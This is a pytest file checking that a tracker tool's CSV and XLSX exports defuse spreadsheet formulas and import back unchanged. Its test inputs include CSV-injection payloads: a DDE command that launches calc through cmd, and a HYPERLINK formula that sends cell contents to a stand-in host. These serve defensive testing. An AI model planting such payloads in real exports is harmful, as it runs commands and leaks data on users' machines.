"""The tracker out to a spreadsheet (`sheets.export`): formulas defused, and export → import gives it back."""

from __future__ import annotations

import csv
import io
import shutil
from pathlib import Path

import pytest

from francis_cli.tracker.corpus import load_tracker

from ..conftest import REPO, RunCli, Tracker

# --- CSV injection: the cells a spreadsheet would run ---------------------------------------------------------


@pytest.mark.parametrize(
    "title",
    [
        "=1+1",
        "+SUM(A1:A2)",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\tTAB=1",
        '=HYPERLINK("http://example.invalid?x="&A1,"click")',
    ],
)
def test_csv_export_defuses_every_formula_trigger_and_imports_back(
    title: str, tracker: Tracker, run_cli: RunCli, tmp_path: Path
) -> None:
    import json

    path = tracker.root / "data/workplan/org-a.yaml"
    path.write_text(path.read_text().replace("title: Write the strategy", f"title: {json.dumps(title)}"))
    out = tmp_path / "actions.csv"
    assert run_cli("export", "actions", "--format", "csv", "-o", str(out), root=tracker.root).exit_code == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    column = rows[0].index(next(h for h in rows[0] if h.lower() in ("title", "action")))
    assert rows[1][column] == "'" + title
    back = run_cli("import", "actions", str(out), "--org", "org-a", "--dry-run", root=tracker.root)
    assert back.exit_code == 0, back.stderr
    changed = [line for line in back.stdout.splitlines() if line[:1] in "+-" and line[:3] not in ("+++", "---")]
    assert not [line for line in changed if "title" in line], back.stdout  # the title reads back as it was


def test_xlsx_export_writes_formulas_as_text(tracker: Tracker, run_cli: RunCli, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = tracker.root / "data/workplan/org-a.yaml"
    path.write_text(path.read_text().replace("title: Write the strategy", "title: '=1+1'"))
    out = tmp_path / "actions.xlsx"
    assert run_cli("export", "actions", "--format", "xlsx", "-o", str(out), root=tracker.root).exit_code == 0
    cells = [c for row in load_workbook(out).active.iter_rows() for c in row if c.value == "=1+1"]
    assert [c.data_type for c in cells] == ["s"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", ["actions", "assessments"])
def test_export_then_import_gives_the_same_tracker(kind: str, fmt: str, tmp_path: Path, run_cli: RunCli) -> None:
    source = tmp_path / "source"
    shutil.copytree(REPO / "data", source / "data")
    shutil.copy(REPO / "francis.yaml", source / "francis.yaml")
    out = tmp_path / f"export.{fmt}"
    assert run_cli("export", kind, "--format", fmt, "-o", str(out), root=source).exit_code == 0
    org = "merton-ccg" if kind == "actions" else "barnet-ccg"
    target = tmp_path / "target"
    assert run_cli("init", str(target), "--org", org, "--name", "Target", "--blank").exit_code == 0
    result = run_cli("import", kind, str(out), "--org", org, root=target)
    assert result.exit_code == 0, result.stderr
    a, b = load_tracker(source), load_tracker(target)
    if kind == "actions":
        assert [(e.section.id, e.section.title, e.model) for e in b.actions] == [
            (e.section.id, e.section.title, e.model) for e in a.actions
        ]  # type: ignore[union-attr]
    else:  # a block scalar's final line break is YAML layout, not text a spreadsheet cell keeps

        def text(e: object) -> object:
            m = e.model  # type: ignore[attr-defined]
            return m.model_copy(
                update={
                    "position": m.position and m.position.rstrip("\n"),
                    "reason": m.reason and m.reason.rstrip("\n"),
                }
            )

        assert [text(e) for e in b.assessments] == [text(e) for e in a.assessments]
    again = run_cli("import", kind, str(out), "--org", org, root=source)
    assert (again.exit_code, again.stdout) == (0, "nothing to change\n")


def test_csv_export_neutralises_formulas(tracker_with_formula: Path, tmp_path: Path, run_cli: RunCli) -> None:
    out = tmp_path / "actions.csv"
    assert run_cli("export", "actions", "-o", str(out), root=tracker_with_formula).exit_code == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    assert rows[1][4] == '\'=HYPERLINK("http://example.invalid")'
    assert rows[1][6] == "'-1 budget line"


@pytest.fixture
def tracker_with_formula(tracker: object) -> Path:
    root: Path = tracker.root  # type: ignore[attr-defined]
    path = root / "data/workplan/org-a.yaml"
    text = path.read_text().replace(
        "title: Write the strategy",
        "title: '=HYPERLINK(\"http://example.invalid\")'\n        outcome: '-1 budget line'",
    )
    path.write_text(text)
    return root
